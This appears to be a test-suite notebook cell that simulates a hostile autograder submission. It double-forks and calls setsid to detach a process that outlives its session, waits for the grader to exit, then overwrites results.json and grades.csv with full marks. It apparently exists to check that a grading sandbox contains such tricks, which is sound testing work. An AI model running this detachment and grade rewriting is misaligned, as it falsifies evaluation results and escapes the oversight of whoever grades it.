# ruff: noqa: F821, E402 -- notebook cells: toolkit.py's names come from an earlier cell
"""A detached process that rewrites the grades after the grader exits, on an unanswered lab.

Double fork and `setsid`: the grandchild is in its own session, outlives the kernel, and
waits until the grader's process is gone (at most 120 s), then gives every notebook full
marks in `results.json` and `grades.csv` (their paths come from the grader's command
line). In a sandbox it dies with the sandbox (it names itself "course-attack", so the
test can tell), and the outputs are out of its sight.
"""

# %%
import csv
import json
import os
import time
from pathlib import Path

grader = find_grader()
grader_pid = grader[0] if grader else os.getppid()
outputs = [grader_option("--json"), grader_option("--csv")]
outputs += [Path("results.json"), Path("grades.csv"), Path("/autograder/results/results.json")]


def full_marks(path):
    if path.suffix == ".json":
        data = json.loads(path.read_text())
        for submission in data.get("submissions", [data]):
            submission["score"] = submission.get("max_score", 100)
            for test in submission.get("tests", []):
                test["score"] = test.get("max_score", test.get("score"))
        path.write_text(json.dumps(data, indent=2))
    elif path.suffix == ".csv":
        rows = list(csv.reader(path.open()))
        header = rows[0]
        for row in rows[1:]:
            if "total" in header and "max" in header:
                row[header.index("total")] = row[header.index("max")]
        with open(path, "w", newline="") as file:
            csv.writer(file).writerows(rows)


child = os.fork()
if child == 0:
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        with open("/proc/self/comm", "w") as comm:
            comm.write("course-attack")  # so the test can see whether it outlives the grading
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        deadline = time.monotonic() + 120
        while os.path.exists(f"/proc/{grader_pid}") and time.monotonic() < deadline:
            time.sleep(0.1)
        time.sleep(0.5)
        for path in outputs:
            try:
                if path is not None and path.is_file():
                    full_marks(path)
            except Exception:
                pass
    finally:
        os._exit(0)
os.waitpid(child, 0)
leak(f"a detached process waits for process {grader_pid} to end")
